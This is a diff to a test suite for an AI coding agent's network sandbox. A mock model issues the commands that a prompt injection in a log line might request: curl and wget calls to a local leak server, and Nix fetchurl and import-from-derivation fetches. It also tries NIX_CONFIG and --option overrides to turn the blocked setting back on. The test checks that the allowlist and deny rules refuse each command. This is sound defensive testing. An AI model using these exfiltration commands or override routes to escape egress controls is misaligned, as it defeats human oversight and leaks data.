@@ -42,7 +42,19 @@ describe.runIf(OPENCODE !== undefined && HAS_BWRAP && HAS_CURL_WGET)(
       const url = `http://127.0.0.1:${leak.port}`;
       mock = await startMockLlm([
         // What a prompt injection in a log line would ask for, through commands the lane allows.
-        ...(HAS_NIX ? [bash(`nix eval --impure --expr 'builtins.fetchurl "${url}/leak"'`)] : []),
+        ...(HAS_NIX
+          ? [
+              bash(`nix eval --impure --expr 'builtins.fetchurl "${url}/leak"'`),
+              // The daemon's way out on NixOS (egress/nix.ts): a fetch built during evaluation…
+              bash(
+                `nix eval --impure --expr 'builtins.readFile (import <nix/fetchurl.nix> { url = "${url}/ifd"; sha256 = "${"0".repeat(52)}"; })'`,
+              ),
+              // …and the command lines that would allow it again.
+              bash("nix eval --option allow-import-from-derivation true --expr 1"),
+              bash("env NIX_CONFIG='allow-import-from-derivation = true' nix eval --expr 1"),
+              bash("NIX_CONFIG='allow-import-from-derivation = true' nix eval --expr 1"),
+            ]
+          : []),
         bash(`curl -sS -m 20 ${url}/leak?d=curl`),
         bash(`wget -O- -T 20 -t 1 ${url}/leak?d=wget`),
         // Past the proxy, straight to the host's loopback: another namespace's, so nothing listens.
@@ -54,8 +66,9 @@ describe.runIf(OPENCODE !== undefined && HAS_BWRAP && HAS_CURL_WGET)(
           "# jellyfin: join the media group\n\n## What broke\nPermission denied.\n\n## Root cause\nNo media group.\n\n## Fix\nSupplementaryGroups.\n\n## How it was checked\nRead the unit.\n\n## Risk and rollback\nRevert.\n",
         ),
       ]);
-      // This machine's single-user Nix keeps its store where the sandbox is read-only; a dummy store
-      // lets the evaluator get as far as the download, which is what this test is about. Its wrapper
+      // This machine's single-user Nix keeps its store where the sandbox is read-only; a store of the
+      // run's own in the sandbox's private /tmp lets the evaluator get as far as the download (and to
+      // a derivation to build), which is what this test is about. Its wrapper
       // (install-nix.sh) also puts its cache and state under its own prefix, read-only in the sandbox
       // too and absent until a first download made them ("creating directory …: Read-only file
       // system" in a run where no Nix check came first): the sandbox's private /tmp holds them, as the
@@ -63,7 +76,7 @@ describe.runIf(OPENCODE !== undefined && HAS_BWRAP && HAS_CURL_WGET)(
       writeFileSync(
         envFile,
         [
-          "NIX_CONFIG=store = dummy://",
+          "NIX_CONFIG=store = /tmp/nix-root",
           ...["CACHE", "STATE", "DATA", "CONFIG"].map((d) => `NIX_${d}_HOME=/tmp/nix-${d.toLowerCase()}`),
           "",
         ].join("\n"),
@@ -130,8 +143,19 @@ describe.runIf(OPENCODE !== undefined && HAS_BWRAP && HAS_CURL_WGET)(
         }[];
         return String(messages.filter((m) => m.role === "tool").at(-1)?.content ?? "");
       };
-      const t = HAS_NIX ? 1 : 0;
-      if (HAS_NIX) expect(toolResult(0)).toMatch(/unable to download.*HTTP error 403/);
+      const t = HAS_NIX ? 5 : 0;
+      if (HAS_NIX) {
+        expect(toolResult(0)).toMatch(/unable to download.*HTTP error 403/);
+        // Behind the allowlist Nix may not build while it evaluates: no fetch from the daemon's network.
+        expect(toolResult(1)).toMatch(
+          /during evaluation because the option 'allow-import-from-derivation' is disabled/,
+        );
+        // OpenCode's answer to a denied command; 1.18.33 refuses the two NIX_CONFIG forms already
+        // for not matching `nix eval *`, and the lane's `*NIX_CONFIG*` rule keeps it so.
+        for (const turn of [2, 3, 4])
+          expect(toolResult(turn)).toMatch(/rule which prevents you from using this specific tool call/);
+        expect(toolResult(2)).toContain('"pattern":"*--option *","action":"deny"');
+      }
       expect(toolResult(t)).toContain(`127.0.0.1:${leak.port} is not in this run's egress allowlist`);
       expect(toolResult(t + 1)).toMatch(/ERROR 403/);
       expect(toolResult(t + 2)).toMatch(/Failed to connect|Couldn't connect/);
